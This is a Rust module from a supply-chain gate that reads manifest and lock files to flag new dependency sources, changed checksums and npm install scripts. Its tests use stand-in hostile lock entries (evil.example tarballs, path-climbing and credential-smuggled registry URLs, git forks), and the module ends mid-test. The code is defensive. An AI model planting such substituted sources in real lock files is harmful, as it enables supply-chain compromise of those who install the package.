//! The dependencies a manifest or lock file declares, read from the whole file, so that the
//! gate compares the set before and after a change however its lines were split, joined or
//! reordered. A dependency is its name and where it comes from (a registry, a git URL, a path):
//! moving `serde` from crates.io to someone's git repository is a new dependency, raising its
//! version is not.
//!
//! A lock file's entry is what the package manager fetches, so an entry that keeps its name but
//! resolves to another package's tarball, a git, file or other URL, or a new registry, is a new
//! dependency too; so is a locked crate whose checksum changes while its version stays. A
//! `package.json` script that npm runs on install (`postinstall`, `prepare`, ...), added or
//! changed, runs code on every machine that installs the package, as a new dependency would.
//!
//! Parsed with the formats' own grammar (TOML, JSON) where the crate has one, and by lines for
//! the line-based formats (`requirements.txt`, `go.mod`, `go.sum`, `yarn.lock`). Formats without
//! a parser here (`Gemfile`, `pom.xml`, Gradle, ...) fall back to the first word of every line
//! that is not a comment: coarser, but still over the whole file.

use std::collections::{BTreeMap, BTreeSet};

use serde_json::Value as Json;
use toml::Value as Toml;

/// Manifest and lock files, by name.
const MANIFESTS: [&str; 24] = [
    "Cargo.toml",
    "Cargo.lock",
    "package.json",
    "package-lock.json",
    "yarn.lock",
    "pnpm-lock.yaml",
    "go.mod",
    "go.sum",
    "pyproject.toml",
    "poetry.lock",
    "Pipfile",
    "Pipfile.lock",
    "setup.py",
    "setup.cfg",
    "Gemfile",
    "Gemfile.lock",
    "pom.xml",
    "build.gradle",
    "build.gradle.kts",
    "composer.json",
    "composer.lock",
    "mix.exs",
    "Package.swift",
    "uv.lock",
];

pub fn is_manifest(path: &str) -> bool {
    let name = path.rsplit('/').next().unwrap_or(path);
    MANIFESTS.contains(&name)
        || (name.starts_with("requirements") && name.ends_with(".txt"))
        || name.ends_with(".csproj")
}

/// What a manifest or lock file declares that the gate compares before and after a change.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct Declared {
    /// `section: name (source)`: one the file did not have before is a new dependency.
    pub dependencies: BTreeSet<String>,
    /// Locked packages and the checksum that pins their contents: `name version (source)` ->
    /// checksum (`None`: the entry has none).
    pub checksums: BTreeMap<String, Option<String>>,
    /// `package.json` scripts the package manager runs on install: name -> command.
    pub install_scripts: BTreeMap<String, String>,
}

impl Declared {
    /// What `self`, the file after a change, declares that `before` did not, each a sentence
    /// that names `path`.
    pub fn gained_since(&self, before: &Declared, path: &str) -> Vec<String> {
        let mut out: Vec<String> = self
            .dependencies
            .difference(&before.dependencies)
            .map(|dep| format!("{path} gains the dependency {dep}"))
            .collect();
        for (package, sum) in &self.checksums {
            let Some(was) = before.checksums.get(package).filter(|was| *was != sum) else {
                continue;
            };
            let show = |s: &Option<String>| s.clone().unwrap_or_else(|| "none".to_owned());
            out.push(format!(
                "{path} locks {package} with another checksum ({} -> {}): the same name, \
                 version and source would be other contents",
                show(was),
                show(sum)
            ));
        }
        for (name, command) in &self.install_scripts {
            let what = match before.install_scripts.get(name) {
                None => format!("adds the install script {name}: {}", quote(command)),
                Some(was) if was != command => format!(
                    "changes the install script {name}: {} -> {}",
                    quote(was),
                    quote(command)
                ),
                Some(_) => continue,
            };
            out.push(format!(
                "{path} {what} (npm, yarn and pnpm run it when the package is installed)"
            ));
        }
        out
    }
}

/// How many characters of a command a message quotes.
const QUOTE_CHARS: usize = 120;

fn quote(text: &str) -> String {
    let mut out: String = text.chars().take(QUOTE_CHARS).collect();
    if text.chars().count() > QUOTE_CHARS {
        out.push_str("...");
    }
    format!("`{out}`")
}

/// npm's install-time lifecycle scripts; each also runs with its `pre` and `post` hooks.
const INSTALL_SCRIPTS: [&str; 8] = [
    "preinstall",
    "install",
    "postinstall",
    "prepublish",
    "preprepare",
    "prepare",
    "postprepare",
    // npm 8 and later run it whenever node_modules changes.
    "dependencies",
];

fn is_install_script(name: &str) -> bool {
    let base = |n: &str| INSTALL_SCRIPTS.contains(&n);
    base(name)
        || name.strip_prefix("pre").is_some_and(base)
        || name.strip_prefix("post").is_some_and(base)
}

/// The scripts of `package.json` that run at install time, with their commands.
fn npm_install_scripts(doc: &Json, out: &mut BTreeMap<String, String>) {
    for (name, command) in object(doc.get("scripts")) {
        if is_install_script(name) {
            let command = match command.as_str() {
                Some(c) => c.to_owned(),
                None => command.to_string(),
            };
            out.insert(name.clone(), command);
        }
    }
}

/// What `text` declares; an error names what could not be read.
pub fn read(path: &str, text: &str) -> Result<Declared, String> {
    let name = path.rsplit('/').next().unwrap_or(path);
    let toml = || toml::from_str::<Toml>(text).map_err(|e| format!("not TOML: {e}"));
    let json = || serde_json::from_str::<Json>(text).map_err(|e| format!("not JSON: {e}"));
    let mut declared = Declared::default();
    let out = &mut declared.dependencies;
    match name {
        "Cargo.toml" => cargo_toml(&toml()?, out),
        "Cargo.lock" => {
            let doc = toml()?;
            lock_packages(&doc, out);
            cargo_checksums(&doc, &mut declared.checksums);
        }
        "poetry.lock" | "uv.lock" => lock_packages(&toml()?, out),
        "pyproject.toml" => pyproject(&toml()?, out),
        "Pipfile" => {
            let doc = toml()?;
            for section in ["packages", "dev-packages"] {
                toml_table(&doc, &[section], section, out);
            }
            for s in array(doc.get("source")) {
                out.insert(format!("source: {}", str_of(s.get("url"))));
            }
        }
        "package.json" => {
            let doc = json()?;
            package_json(&doc, out);
            npm_install_scripts(&doc, &mut declared.install_scripts);
        }
        "composer.json" => package_json(&json()?, out),
        "package-lock.json" => {
            let doc = json()?;
            for (key, p) in object(doc.get("packages")) {
                // "" is the project itself.
                if !key.is_empty() {
                    let name = key.rsplit_once("node_modules/").map(|(_, n)| n);
                    out.insert(format!("package: {key} ({})", npm_locked(name, p)));
                }
            }
            // lockfileVersion 1 (and 2, which keeps it for old npm): nested by where each
            // package is installed, named here as `packages` names them.
            npm_v1_dependencies(doc.get("dependencies"), "", out);
        }
        "yarn.lock" => yarn_lock(text, out)?,
        "Pipfile.lock" => {
            let doc = json()?;
            for section in ["default", "develop"] {
                for (key, _) in object(doc.get(section)) {
                    out.insert(format!("{section}: {}", key.to_lowercase()));
                }
            }
        }
        "composer.lock" => {
            let doc = json()?;
            for section in ["packages", "packages-dev"] {
                for p in json_array(doc.get(section)) {
                    let name = p.get("name").and_then(Json::as_str).unwrap_or_default();
                    let url = p
                        .get("source")
                        .and_then(|s| s.get("url"))
                        .and_then(Json::as_str)
                        .unwrap_or("packagist");
                    out.insert(format!("{section}: {name} ({url})"));
                }
            }
        }
        "go.mod" => go_mod(text, out),
        "go.sum" => {
            for line in text.lines() {
                if let Some(module) = line.split_whitespace().next() {
                    out.insert(format!("module: {module}"));
                }
            }
        }
        _ if name.starts_with("requirements") && name.ends_with(".txt") => requirements(text, out),
        _ => {
            for line in text.lines() {
                let t = line.trim_start();
                if t.starts_with('#') || t.starts_with("//") || t.starts_with("<!--") {
                    continue;
                }
                if let Some(key) = entry_key(line) {
                    out.insert(format!("entry: {key}"));
                }
            }
        }
    }
    Ok(declared)
}

/// Words that come before a dependency's name and are not it.
const DEPENDENCY_KEYWORDS: [&str; 12] = [
    "gem",
    "require",
    "implementation",
    "api",
    "compile",
    "compileonly",
    "runtimeonly",
    "testimplementation",
    "dependency",
    "pip",
    "package",
    "packagereference",
];

/// What a line of a format read by lines is about: its first word that is not a keyword
/// (`rails` in `gem 'rails', '~> 7'`, `lodash` in `lodash@^4:`).
fn entry_key(line: &str) -> Option<String> {
    line.split(|c: char| c.is_whitespace() || "=:,<>~!^@()'\"{}[];".contains(c))
        .filter(|w| !w.is_empty())
        .map(str::to_ascii_lowercase)
        .find(|w| !DEPENDENCY_KEYWORDS.contains(&w.as_str()))
}

fn array(v: Option<&Toml>) -> impl Iterator<Item = &Toml> {
    v.and_then(Toml::as_array).into_iter().flatten()
}

fn json_array(v: Option<&Json>) -> impl Iterator<Item = &Json> {
    v.and_then(Json::as_array).into_iter().flatten()
}

fn object(v: Option<&Json>) -> impl Iterator<Item = (&String, &Json)> {
    v.and_then(Json::as_object).into_iter().flatten()
}

fn str_of(v: Option<&Toml>) -> &str {
    v.and_then(Toml::as_str).unwrap_or_default()
}

/// Where an npm lock entry for the package `name` comes from: its registry when `resolved` is
/// that registry's tarball of `name` (the same at every version), otherwise the whole of
/// `resolved` and what is wrong with it, so that any change of it counts.
fn npm_locked(name: Option<&str>, entry: &Json) -> String {
    let version = entry.get("version").and_then(Json::as_str);
    match (entry.get("resolved").and_then(Json::as_str), name) {
        (Some(url), Some(name)) => match npm_registry(url, name, version) {
            Some(registry) => registry,
            None => format!("resolved {url}: not a registry tarball of {name}"),
        },
        (Some(url), None) => format!("resolved {url}"),
        // lockfileVersion 1 keeps a git or file dependency's URL in `version`.
        (None, _) => match version {
            Some(v) if !is_semver(v) => format!("version {v}: not a registry version"),
            _ => "registry".to_owned(),
        },
    }
}

/// `dependencies` of a lockfileVersion 1 `package-lock.json`, each with its own nested under it.
fn npm_v1_dependencies(deps: Option<&Json>, prefix: &str, out: &mut BTreeSet<String>) {
    for (name, p) in object(deps) {
        let key = format!("{prefix}node_modules/{name}");
        out.insert(format!("package: {key} ({})", npm_locked(Some(name), p)));
        npm_v1_dependencies(p.get("dependencies"), &format!("{key}/"), out);
    }
}

/// The registry that `url` is a tarball of the package `name` from (at `version`, when the
/// entry says which): `https://registry.npmjs.org` for
/// `https://registry.npmjs.org/@scope/name/-/name-1.2.3.tgz`, or a mirror's base
/// (`https://npm.example/api/npm/remote`). `None` for anything else: another package's tarball,
/// a git, file or other URL, credentials or a query in it. Read by the `url` crate as npm and
/// yarn read it (WHATWG), so a path that climbs (`/lodash/-/../../evil/-/...`) is judged where
/// it lands.
fn npm_registry(url: &str, name: &str, version: Option<&str>) -> Option<String> {
    let u = url::Url::parse(url).ok()?;
    let plain = matches!(u.scheme(), "https" | "http")
        && u.username().is_empty()
        && u.password().is_none()
        && u.query().is_none();
    if !plain {
        return None;
    }
    let segments: Vec<&str> = u.path_segments()?.collect();
    let [dirs @ .., dash, file] = segments.as_slice() else {
        return None;
    };
    let unscoped = name.rsplit('/').next().unwrap_or(name);
    let file_version = file
        .strip_prefix(unscoped)?
        .strip_prefix('-')?
        .strip_suffix(".tgz")?;
    let version_ok = match version {
        Some(v) => file_version == v,
        None => is_semver(file_version),
    };
    if *dash != "-" || !version_ok {
        return None;
    }
    // `@scope/name` is two segments, or one with the slash encoded.
    let parts: Vec<&str> = name.split('/').collect();
    let base = if dirs.ends_with(&parts) {
        &dirs[..dirs.len() - parts.len()]
    } else {
        let encoded = dirs.last()?.replace("%2F", "/").replace("%2f", "/");
        if encoded != name {
            return None;
        }
        &dirs[..dirs.len() - 1]
    };
    let mut registry = u.origin().ascii_serialization();
    for dir in base {
        registry.push('/');
        registry.push_str(dir);
    }
    Some(registry)
}

/// A semantic version, `1.2.3`, `1.2.3-rc.1`, `1.2.3+build`: what a registry serves.
fn is_semver(v: &str) -> bool {
    let core = v.split(['-', '+']).next().unwrap_or_default();
    let parts: Vec<&str> = core.split('.').collect();
    let tail_ok = v
        .chars()
        .all(|c| c.is_ascii_alphanumeric() || ".-+".contains(c));
    parts.len() == 3
        && parts
            .iter()
            .all(|p| !p.is_empty() && p.chars().all(|c| c.is_ascii_digit()))
        && tail_ok
}

/// `yarn.lock`, classic (`resolved "URL"`) and Berry's YAML (`resolution: "name@npm:1.2.3"`),
/// read by lines as yarn writes it: an entry's key names the package (`lodash@^4.17.20,
/// lodash@^4.17.21:`), its fields are indented by two spaces. Where an entry resolves to
/// counts, not its version: the registry when it is that registry's tarball of the package
/// (or, in Berry, `npm:` and a version), the whole resolution otherwise.
fn yarn_lock(text: &str, out: &mut BTreeSet<String>) -> Result<(), String> {
    struct Entry {
        names: BTreeSet<String>,
        /// Some specifier has a range or protocol after the name (`__metadata` has none).
        package: bool,
        fields: BTreeMap<String, String>,
    }
    let mut entries: Vec<Entry> = Vec::new();
    for (i, raw) in text.lines().enumerate() {
        let line = raw.trim_end();
        let body = line.trim_start();
        if body.is_empty() || body.starts_with('#') {
            continue;
        }
        let indent = line.len() - body.len();
        if indent == 0 {
            let Some(key) = line.strip_suffix(':') else {
                return Err(format!(
                    "line {} is neither an entry (`name@range:`) nor a comment",
                    i + 1
                ));
            };
            let specs: Vec<&str> = key.split(',').map(|s| s.trim().trim_matches('"')).collect();
            entries.push(Entry {
                names: specs.iter().map(|s| yarn_name(s).to_owned()).collect(),
                package: specs.iter().any(|s| yarn_name(s) != *s),
                fields: BTreeMap::new(),
            });
            continue;
        }
        let Some(entry) = entries.last_mut() else {
            return Err(format!("line {} is indented but under no entry", i + 1));
        };
        // Deeper lines are an entry's own dependency lists, which have entries of their own.
        if indent == 2 {
            let (field, value) = match body.split_once(':') {
                Some((f, v)) if !f.contains(' ') => (f, v),
                _ => body.split_once(' ').unwrap_or((body, "")),
            };
            let value = value.trim().trim_matches('"');
            entry.fields.insert(field.to_owned(), value.to_owned());
        }
    }
    for e in entries.iter().filter(|e| e.package) {
        let names: Vec<&str> = e.names.iter().map(String::as_str).collect();
        let name = names.join(", ");
        let version = e.fields.get("version").map(String::as_str);
        let source = if let Some(res) = e.fields.get("resolution") {
            let (res_name, how) = res.split_at(yarn_name(res).len());
            let npm = how
                .strip_prefix("@npm:")
                .is_some_and(|v| is_semver(v) && version.is_none_or(|ours| ours == v));
            if names == [res_name] && npm {
                "npm".to_owned()
            } else {
                format!("resolution {res}: not {name} from npm")
            }
        } else if let Some(url) = e.fields.get("resolved") {
            let registry = match names.as_slice() {
                [one] => npm_registry(url, one, version),
                _ => None,
            };
            registry.unwrap_or_else(|| format!("resolved {url}: not a registry tarball of {name}"))
        } else {
            "no resolved URL".to_owned()
        };
        out.insert(format!("package: {name} ({source})"));
    }
    Ok(())
}

/// The package a yarn specifier names: `@babel/core` of `@babel/core@^7.0.0`, `foo` of the
/// alias `foo@npm:bar@^1`.
fn yarn_name(spec: &str) -> &str {
    let from = usize::from(spec.starts_with('@'));
    match spec[from..].find('@') {
        Some(i) => &spec[..from + i],
        None => spec,
    }
}

/// A Cargo- or Poetry-style dependency table at `path`: name -> version or a table saying
/// where it comes from.
fn toml_table(doc: &Toml, path: &[&str], section: &str, out: &mut BTreeSet<String>) {
    let mut t = Some(doc);
    for p in path {
        t = t.and_then(|v| v.get(p));
    }
    let Some(table) = t.and_then(Toml::as_table) else {
        return;
    };
    for (name, spec) in table {
        let source = match spec {
            Toml::Table(s) => {
                let real = s.get("package").and_then(Toml::as_str).unwrap_or(name);
                let from = ["git", "path", "url", "registry", "registry-index", "source"]
                    .iter()
                    .find_map(|k| s.get(*k).and_then(Toml::as_str).map(|v| format!("{k} {v}")))
                    .unwrap_or_else(|| "registry".to_owned());
                let workspace = s.get("workspace").and_then(Toml::as_bool) == Some(true);
                if workspace {
                    format!("{real}, workspace")
                } else {
                    format!("{real}, {from}")
                }
            }
            _ => format!("{name}, registry"),
        };
        out.insert(format!("{section}: {name} ({source})"));
    }
}

/// Every table Cargo reads dependencies from: `[dependencies]` and the dev and build kinds (also
/// under `[target.'cfg(..)']`), `[workspace.dependencies]`, `[patch.<source>]` and `[replace]`.
fn cargo_toml(doc: &Toml, out: &mut BTreeSet<String>) {
    // Cargo still reads the underscore spellings. A table is named as Cargo spells it now, so
    // that respelling one changes nothing.
    const KINDS: [(&str, &str); 5] = [
        ("dependencies", "dependencies"),
        ("dev-dependencies", "dev-dependencies"),
        ("dev_dependencies", "dev-dependencies"),
        ("build-dependencies", "build-dependencies"),
        ("build_dependencies", "build-dependencies"),
    ];
    for (key, kind) in KINDS {
        toml_table(doc, &[key], kind, out);
    }
    toml_table(
        doc,
        &["workspace", "dependencies"],
        "workspace.dependencies",
        out,
    );
    if let Some(targets) = doc.get("target").and_then(Toml::as_table) {
        for (target, inner) in targets {
            for (key, kind) in KINDS {
                toml_table(inner, &[key], &format!("target.{target}.{kind}"), out);
            }
        }
    }
    if let Some(patches) = doc.get("patch").and_then(Toml::as_table) {
        for (source, inner) in patches {
            toml_table(inner, &[], &format!("patch.{source}"), out);
        }
    }
    toml_table(doc, &["replace"], "replace", out);
}

/// `[[package]]` of Cargo.lock, poetry.lock, uv.lock: name and source, not version.
fn lock_packages(doc: &Toml, out: &mut BTreeSet<String>) {
    for p in array(doc.get("package")) {
        let name = str_of(p.get("name"));
        let source = match p.get("source") {
            // Cargo's, whole: a git source's commit is what is fetched, and a commit of any
            // fork can be fetched through the upstream's URL, so moving it is not a version
            // bump a registry vouches for.
            Some(Toml::String(s)) => s.clone(),
            Some(Toml::Table(t)) => t
                .iter()
                .map(|(k, v)| format!("{k} {}", v.as_str().unwrap_or_default()))
                .filter(|s| !s.starts_with("reference") && !s.starts_with("resolved_reference"))
                .collect::<Vec<_>>()
                .join(", "),
            _ => "registry".to_owned(),
        };
        out.insert(format!("package: {name} ({source})"));
    }
}

/// The checksum Cargo.lock pins each crate's contents with: in its `[[package]]`, or (the first
/// lock format) as `"checksum NAME VERSION (SOURCE)"` keys of `[metadata]`.
fn cargo_checksums(doc: &Toml, out: &mut BTreeMap<String, Option<String>>) {
    for p in array(doc.get("package")) {
        let key = format!(
            "{} {} ({})",
            str_of(p.get("name")),
            str_of(p.get("version")),
            p.get("source").and_then(Toml::as_str).unwrap_or("path")
        );
        let sum = p.get("checksum").and_then(Toml::as_str).map(str::to_owned);
        out.insert(key, sum);
    }
    if let Some(metadata) = doc.get("metadata").and_then(Toml::as_table) {
        for (key, sum) in metadata {
            if let Some(package) = key.strip_prefix("checksum ") {
                out.insert(package.to_owned(), sum.as_str().map(str::to_owned));
            }
        }
    }
}

fn pyproject(doc: &Toml, out: &mut BTreeSet<String>) {
    let pep508 = |section: &str, v: Option<&Toml>, out: &mut BTreeSet<String>| {
        for d in array(v).filter_map(Toml::as_str) {
            out.insert(format!("{section}: {}", requirement(d)));
        }
    };
    let project = doc.get("project");
    pep508("project", project.and_then(|p| p.get("dependencies")), out);
    if let Some(t) = project
        .and_then(|p| p.get("optional-dependencies"))
        .and_then(Toml::as_table)
    {
        for (extra, list) in t {
            pep508(&format!("extra {extra}"), Some(list), out);
        }
    }
    if let Some(t) = doc.get("dependency-groups").and_then(Toml::as_table) {
        for (group, list) in t {
            pep508(&format!("group {group}"), Some(list), out);
        }
    }
    pep508(
        "build-system",
        doc.get("build-system").and_then(|b| b.get("requires")),
        out,
    );
    for section in ["dependencies", "dev-dependencies"] {
        toml_table(doc, &["tool", "poetry", section], section, out);
    }
    if let Some(groups) = doc
        .get("tool")
        .and_then(|t| t.get("poetry"))
        .and_then(|p| p.get("group"))
        .and_then(Toml::as_table)
    {
        for (g, inner) in groups {
            toml_table(inner, &["dependencies"], &format!("group {g}"), out);
        }
    }
    toml_table(doc, &["tool", "uv", "sources"], "uv source", out);
}

fn package_json(doc: &Json, out: &mut BTreeSet<String>) {
    for section in [
        "dependencies",
        "devDependencies",
        "peerDependencies",
        "optionalDependencies",
        "overrides",
        "resolutions",
        "require",
        "require-dev",
    ] {
        for (name, spec) in object(doc.get(section)) {
            let spec = spec.as_str().unwrap_or("(nested)");
            let registry = spec
                .chars()
                .all(|c| c.is_ascii_alphanumeric() || " .*^~<>=|-+xX".contains(c));
            let source = if registry { "registry" } else { spec };
            out.insert(format!("{section}: {name} ({source})"));
        }
    }
    for section in ["bundledDependencies", "bundleDependencies"] {
        for name in json_array(doc.get(section)).filter_map(Json::as_str) {
            out.insert(format!("{section}: {name}"));
        }
    }
    for r in json_array(doc.get("repositories")) {
        let url = r.get("url").and_then(Json::as_str).unwrap_or_default();
        out.insert(format!("repository: {url}"));
    }
}

/// A PEP 508 requirement's name (normalized) and direct URL, without its version.
fn requirement(text: &str) -> String {
    let text = text.split(';').next().unwrap_or_default().trim();
    let (name_part, url) = match text.split_once(" @ ").or_else(|| text.split_once('@')) {
        Some((n, u)) => (n, Some(u.trim())),
        None => (text, None),
    };
    let name: String = name_part
        .chars()
        .take_while(|c| c.is_ascii_alphanumeric() || "-_.".contains(*c))
        .collect::<String>()
        .to_lowercase()
        .replace(['_', '.'], "-");
    match url {
        Some(u) => format!("{name} ({u})"),
        None => format!("{name} (index)"),
    }
}

fn requirements(text: &str, out: &mut BTreeSet<String>) {
    // A backslash at the end of a line continues it.
    let joined = text.replace("\\\r\n", " ").replace("\\\n", " ");
    for line in joined.lines() {
        let line = match line.find(" #") {
            Some(i) => &line[..i],
            None => line,
        }
        .trim();
        if line.is_empty() || line.starts_with('#') {
            continue;
        }
        if line.starts_with('-') {
            // Options that fetch from elsewhere or pull in more: -r, -c, -e, --index-url, ...
            out.insert(format!(
                "option: {}",
                line.split_whitespace().collect::<Vec<_>>().join(" ")
            ));
        } else if line.contains("://") && !line.contains(" @ ") {
            out.insert(format!("url: {line}"));
        } else {
            out.insert(format!("requirement: {}", requirement(line)));
        }
    }
}

fn go_mod(text: &str, out: &mut BTreeSet<String>) {
    let mut block: Option<String> = None;
    for line in text.lines() {
        let line = line.split("//").next().unwrap_or_default().trim();
        if line.is_empty() {
            continue;
        }
        if line == ")" {
            block = None;
            continue;
        }
        let (verb, rest) = match &block {
            Some(v) => (v.clone(), line),
            None => match line.split_once(char::is_whitespace) {
                Some((v, r)) => (v.to_owned(), r.trim()),
                None => continue,
            },
        };
        if rest == "(" {
            block = Some(verb);
            continue;
        }
        match verb.as_str() {
            "require" | "tool" => {
                let module = rest.split_whitespace().next().unwrap_or_default();
                out.insert(format!("{verb}: {module}"));
            }
            "replace" => {
                let (from, to) = rest.split_once("=>").unwrap_or((rest, ""));
                let from = from.split_whitespace().next().unwrap_or_default();
                let to = to.split_whitespace().next().unwrap_or_default();
                out.insert(format!("replace: {from} => {to}"));
            }
            _ => {}
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn added(path: &str, before: &str, after: &str) -> Vec<String> {
        let b = read(path, before).unwrap().dependencies;
        let a = read(path, after).unwrap().dependencies;
        a.difference(&b).cloned().collect()
    }

    /// What the gate reports for a change of `path` from `before` to `after`.
    fn gained(path: &str, before: &str, after: &str) -> Vec<String> {
        let b = read(path, before).unwrap();
        read(path, after).unwrap().gained_since(&b, path)
    }

    /// A package-lock.json (lockfileVersion 3) locking `node_modules/lodash` as given.
    fn npm_lock(version: &str, resolved: &str) -> String {
        format!(
            "{{\"name\": \"shop\", \"lockfileVersion\": 3, \"packages\": {{\"\": {{\"dependencies\": \
             {{\"lodash\": \"^4\"}}}}, \"node_modules/lodash\": {{\"version\": \"{version}\", \
             \"resolved\": \"{resolved}\", \"integrity\": \"sha512-x\"}}}}}}"
        )
    }

    #[test]
    fn an_npm_lock_entry_that_resolves_to_another_package_or_place_is_a_new_dependency() {
        let before = npm_lock(
            "4.17.20",
            "https://registry.npmjs.org/lodash/-/lodash-4.17.20.tgz",
        );
        // A version bump from the same registry is not one.
        assert_eq!(
            gained(
                "package-lock.json",
                &before,
                &npm_lock(
                    "4.17.21",
                    "https://registry.npmjs.org/lodash/-/lodash-4.17.21.tgz"
                )
            ),
            Vec::<String>::new()
        );
        for (version, resolved) in [
            // Another package's tarball under the old name.
            ("1.0.0", "https://registry.npmjs.org/evil/-/evil-1.0.0.tgz"),
            (
                "4.17.21",
                "https://registry.npmjs.org/evil/-/lodash-4.17.21.tgz",
            ),
            // A path that climbs lands on another package.
            (
                "1.0.0",
                "https://registry.npmjs.org/lodash/-/../../evil/-/evil-1.0.0.tgz",
            ),
            // A tarball that is not the version the entry says.
            (
                "4.17.21",
                "https://registry.npmjs.org/lodash/-/lodash-evil-4.17.21.tgz",
            ),
            // Outside the registry.
            (
                "4.17.21",
                "git+ssh://git@github.com/lodash/lodash.git#0123abc",
            ),
            ("4.17.21", "file:../lodash"),
            ("4.17.21", "https://evil.example/lodash.tgz"),
            (
                "4.17.21",
                "https://registry.npmjs.org/lodash/-/lodash-4.17.21.tgz?v=evil",
            ),
        ] {
            let after = npm_lock(version, resolved);
            assert_eq!(
                gained("package-lock.json", &before, &after),
                [format!(
                    "package-lock.json gains the dependency package: node_modules/lodash \
                     (resolved {resolved}: not a registry tarball of lodash)"
                )],
                "{resolved}"
            );
        }
        // A new registry: its host, or credentials that make it another host.
        for (resolved, registry) in [
            (
                "https://npm.evil.example/lodash/-/lodash-4.17.21.tgz",
                "https://npm.evil.example",
            ),
            (
                "https://registry.npmjs.org@evil.example/lodash/-/lodash-4.17.21.tgz",
                "",
            ),
        ] {
            let got = gained("package-lock.json", &before, &npm_lock("4.17.21", resolved));
            assert_eq!(got.len(), 1, "{resolved}: {got:?}");
            assert!(got[0].contains(registry), "{resolved}: {got:?}");
        }
        // Scoped packages and mirrors with a path of their own are read too.
        let scoped = |v: &str, base: &str| {
            format!(
                "{{\"lockfileVersion\": 3, \"packages\": {{\"node_modules/@babel/core\": \
                 {{\"version\": \"{v}\", \"resolved\": \"{base}/@babel/core/-/core-{v}.tgz\"}}}}}}"
            )
        };
        let mirror = "https://npm.example/api/npm/remote";
        assert_eq!(
            added(
                "package-lock.json",
                &scoped("7.0.0", mirror),
                &scoped("7.1.0", mirror)
            ),
            Vec::<String>::new()
        );
        assert_eq!(
            added("package-lock.json", "{}", &scoped("7.0.0", mirror)),
            [format!("package: node_modules/@babel/core ({mirror})")]
        );
    }

    #[test]
    fn an_npm_v1_lock_is_read_with_its_nested_dependencies() {
        let lock = |resolved: &str| {
            format!(
                "{{\"lockfileVersion\": 1, \"dependencies\": {{\"a\": {{\"version\": \"1.0.0\", \
                 \"resolved\": \"https://registry.npmjs.org/a/-/a-1.0.0.tgz\", \"dependencies\": \
                 {{\"b\": {{\"version\": \"2.0.0\", \"resolved\": \"{resolved}\"}}}}}}}}}}"
            )
        };
        let before = lock("https://registry.npmjs.org/b/-/b-2.0.0.tgz");
        assert_eq!(
            added("package-lock.json", &before, &lock("https://registry.npmjs.org/evil/-/evil-2.0.0.tgz")),
            ["package: node_modules/a/node_modules/b (resolved https://registry.npmjs.org/evil/-/evil-2.0.0.tgz: not a registry tarball of b)"]
        );
        let git = "{\"lockfileVersion\": 1, \"dependencies\": {\"c\": {\"version\": \"github:evil/c#1234\"}}}";
        assert_eq!(
            added("package-lock.json", "{}", git),
            ["package: node_modules/c (version github:evil/c#1234: not a registry version)"]
        );
    }

    #[test]
    fn a_yarn_lock_entry_that_resolves_elsewhere_is_a_new_dependency() {
        let classic = |version: &str, resolved: &str| {
            format!(
                "# THIS IS AN AUTOGENERATED FILE. DO NOT EDIT THIS FILE DIRECTLY.\n# yarn lockfile v1\n\n\n\
                 \"@babel/code-frame@^7.0.0\", \"@babel/code-frame@^7.10.4\":\n  version \"7.12.13\"\n  \
                 resolved \"https://registry.yarnpkg.com/@babel/code-frame/-/code-frame-7.12.13.tgz#dcfc826b\"\n  \
                 dependencies:\n    \"@babel/highlight\" \"^7.12.13\"\n\n\
                 lodash@^4.17.20, lodash@^4.17.21:\n  version \"{version}\"\n  resolved \"{resolved}\"\n  \
                 integrity sha512-v2kDE\n"
            )
        };
        let before = classic(
            "4.17.20",
            "https://registry.yarnpkg.com/lodash/-/lodash-4.17.20.tgz#aaaa",
        );
        assert_eq!(
            read("yarn.lock", &before).unwrap().dependencies,
            [
                "package: @babel/code-frame (https://registry.yarnpkg.com)".to_owned(),
                "package: lodash (https://registry.yarnpkg.com)".to_owned()
            ]
            .into()
        );
        assert_eq!(
            added(
                "yarn.lock",
                &before,
                &classic(
                    "4.17.21",
                    "https://registry.yarnpkg.com/lodash/-/lodash-4.17.21.tgz#bbbb"
                )
            ),
            Vec::<String>::new()
        );
        for resolved in [
            "https://registry.yarnpkg.com/evil/-/evil-4.17.21.tgz#cccc",
            "https://codeload.github.com/evil/lodash/tar.gz/0123abc",
            "git+https://github.com/lodash/lodash.git#0123abc",
        ] {
            assert_eq!(
                added("yarn.lock", &before, &classic("4.17.21", resolved)),
                [format!(
                    "package: lodash (resolved {resolved}: not a registry tarball of lodash)"
                )]
            );
        }
        assert_eq!(
            added(
                "yarn.lock",
                &before,
                &classic(
                    "4.17.21",
                    "https://yarn.evil.example/lodash/-/lodash-4.17.21.tgz"
                )
            ),
            ["package: lodash (https://yarn.evil.example)"]
        );

        let berry = |resolution: &str| {
            format!(
                "__metadata:\n  version: 6\n  cacheKey: 8\n\n\
                 \"lodash@npm:^4.17.20, lodash@npm:^4.17.21\":\n  version: 4.17.21\n  \
                 resolution: \"{resolution}\"\n  checksum: eb835a2e\n  languageName: node\n  linkType: hard\n"
            )
        };
        assert_eq!(
            added("yarn.lock", "", &berry("lodash@npm:4.17.21")),
            ["package: lodash (npm)"]
        );
        assert_eq!(
            added(
                "yarn.lock",
                &berry("lodash@npm:4.17.21"),
                &berry("evil@npm:4.17.21")
            ),
            ["package: lodash (resolution evil@npm:4.17.21: not lodash from npm)"]
        );
        assert_eq!(
            added(
                "yarn.lock",
                &berry("lodash@npm:4.17.21"),
                &berry("lodash@https://github.com/evil/lodash.git#commit=0123abc")
            ),
            ["package: lodash (resolution lodash@https://github.com/evil/lodash.git#commit=0123abc: not lodash from npm)"]
        );
        assert!(
            read("yarn.lock", "lodash@^4:\n  version \"4\"\nnot an entry\n")
                .unwrap_err()
                .contains("line 3 is neither an entry")
        );
    }

    #[test]
    fn a_locked_crate_with_another_source_commit_or_checksum_is_a_new_dependency() {
        let lock = |version: &str, source: &str, checksum: &str| {
            format!(
                "version = 3\n\n[[package]]\nname = \"shop\"\nversion = \"0.1.0\"\n\
                 dependencies = [\"serde\"]\n\n[[package]]\nname = \"serde\"\nversion = \"{version}\"\n\
                 source = \"{source}\"\nchecksum = \"{checksum}\"\n"
            )
        };
        let crates_io = "registry+https://github.com/rust-lang/crates.io-index";
        let before = lock("1.0.200", crates_io, "aaaa");
        // A version bump, with the checksum of the new version, is not one.
        assert_eq!(
            gained("Cargo.lock", &before, &lock("1.0.201", crates_io, "bbbb")),
            Vec::<String>::new()
        );
        assert_eq!(
            gained("Cargo.lock", &before, &lock("1.0.200", crates_io, "evil")),
